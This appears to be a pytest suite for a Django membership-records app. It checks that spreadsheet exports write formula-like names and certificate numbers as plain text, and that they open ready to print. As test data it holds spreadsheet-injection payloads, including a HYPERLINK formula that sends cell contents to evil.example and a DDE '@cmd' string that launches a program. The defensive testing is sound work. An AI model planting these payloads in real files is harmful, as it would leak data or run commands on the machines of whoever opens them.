"""Nothing a user typed becomes a formula in a workbook the app produces, and the workbooks open
ready to print: a frozen heading row, widths, real dates."""
import datetime
import io

import openpyxl
import pytest

from candidates.models import Admission, Candidate, ClassAttendance
from candidates.services import class_create
from cells.models import Organization

from .factories import CandidateFactory, OrganizationFactory, admit

# Each would run, or be rewritten, as a formula when the office opens or edits the cell.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def as_read_back(value: str) -> str:
    # XML turns a carriage return into a line feed on reading (the file holds the CR itself).
    return value.replace("\r", "\n")


def workbook_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content))


def assert_text(cell, value):
    assert (cell.value, cell.data_type, cell.quotePrefix) == (as_read_back(value), "s", True), cell.coordinate


@pytest.fixture
def staff(client, db):
    client.login(username="bantochuc", password="BanToChuc@2026")
    return client


@pytest.fixture
def cell(db):
    return OrganizationFactory(
        code="tan-dong-thu", name="Chi bộ thử", kind=Organization.Kind.CELL, parent=Organization.objects.get(code="tan-dong")
    )


def hostile_people(cell):
    people = [CandidateFactory(home_cell=cell, full_name=f"Người {i}") for i in range(len(HOSTILE))]
    for person, name in zip(people, HOSTILE):
        # Stored as it came (an older version, the admin or an import may have let it in).
        Candidate.objects.filter(pk=person.pk).update(full_name=name)
    return people


def test_the_candidate_export_writes_formula_like_names_as_text(staff, cell):
    hostile_people(cell)
    sheet = workbook_of(staff.get(f"/candidates/?org={cell.code}&export=xlsx")).active
    names = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    for name in HOSTILE:
        assert_text(names[as_read_back(name)], name)


def test_the_candidate_export_is_ready_to_print_with_real_dates(staff, cell):
    person = CandidateFactory(home_cell=cell, full_name="Lê Văn Tám", date_of_birth=datetime.date(1999, 12, 31))
    sheet = workbook_of(staff.get(f"/candidates/?org={cell.code}&export=xlsx")).active
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"  # repeated on every printed page
    assert sheet.column_dimensions["A"].width == 28
    born, since = sheet["B2"], sheet["I2"]
    assert (born.value, born.number_format) == (datetime.datetime(1999, 12, 31), "DD/MM/YYYY")
    assert (since.value.date(), since.number_format) == (person.stage_date, "DD/MM/YYYY")


def test_a_control_character_in_a_stored_name_does_not_break_the_export(staff, cell):
    person = CandidateFactory(home_cell=cell)
    Candidate.objects.filter(pk=person.pk).update(full_name="Trần\x1b Văn\x07 Bảy")
    sheet = workbook_of(staff.get(f"/candidates/?org={cell.code}&export=xlsx")).active
    assert sheet["A2"].value == "Trần Văn Bảy"


def test_the_monthly_report_writes_a_formula_like_name_and_decision_number_as_text(staff, cell):
    admission = admit(cell, datetime.date(2025, 3, 14))
    Candidate.objects.filter(pk=admission.candidate_id).update(full_name="=1+2")
    Admission.objects.filter(pk=admission.pk).update(decision_number="@cmd|' /C calc'!A0")
    workbook = workbook_of(staff.get(f"/org/{cell.code}/report/?month=2025-03&format=xlsx"))
    sheet = workbook.active
    row = next(row for row in sheet.iter_rows() if row[0].value == "=1+2")
    assert_text(row[0], "=1+2")
    assert_text(row[4], "@cmd|' /C calc'!A0")
    assert (row[1].value, row[1].number_format) == (datetime.datetime(1995, 5, 17), "DD/MM/YYYY")
    assert (row[5].value, row[5].number_format) == (datetime.datetime(2025, 3, 14), "DD/MM/YYYY")


def test_the_class_roster_export_writes_formula_like_text_as_text(staff, cell):
    klass = class_create(
        name="Lớp thử", organizer=Organization.objects.get(code="tan-dong"),
        start_date=datetime.date(2026, 3, 2), end_date=datetime.date(2026, 3, 6),
    )
    people = hostile_people(cell)
    for person, certificate in zip(people, HOSTILE):
        ClassAttendance.objects.create(awareness_class=klass, candidate=person, result="passed", certificate_number=certificate[:32])
    sheet = workbook_of(staff.get(f"/candidates/classes/{klass.pk}/attendees.xlsx")).active
    assert sheet.freeze_panes == "A2"
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert len(rows) == len(HOSTILE)
    for name in HOSTILE:
        row = rows[as_read_back(name)]
        assert_text(row[0], name)
        assert_text(row[6], name[:32])
        assert row[1].number_format == "DD/MM/YYYY"


@pytest.mark.parametrize("kind", ["candidates", "roster"])
def test_the_import_templates_have_a_frozen_heading_row_of_text(staff, kind):
    sheet = workbook_of(staff.get(f"/candidates/import/template-{kind}.xlsx")).active
    assert sheet.freeze_panes == "A2"
    assert all(cell.data_type == "s" and cell.font.bold for cell in sheet[1])


def test_the_workbook_helper_writes_every_risky_start_as_text():
    from candidates.workbooks import append_row

    workbook = openpyxl.Workbook()
    append_row(workbook.active, [*HOSTILE, "bình thường", 3, None, datetime.date(2024, 2, 29)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    for cell, value in zip(row, HOSTILE):
        assert_text(cell, value)
    plain, number, empty, day = row[len(HOSTILE):]
    assert (plain.value, plain.quotePrefix) == ("bình thường", False)
    assert (number.value, number.data_type) == (3, "n")
    assert empty.value is None
    assert (day.value, day.number_format) == (datetime.datetime(2024, 2, 29), "DD/MM/YYYY")
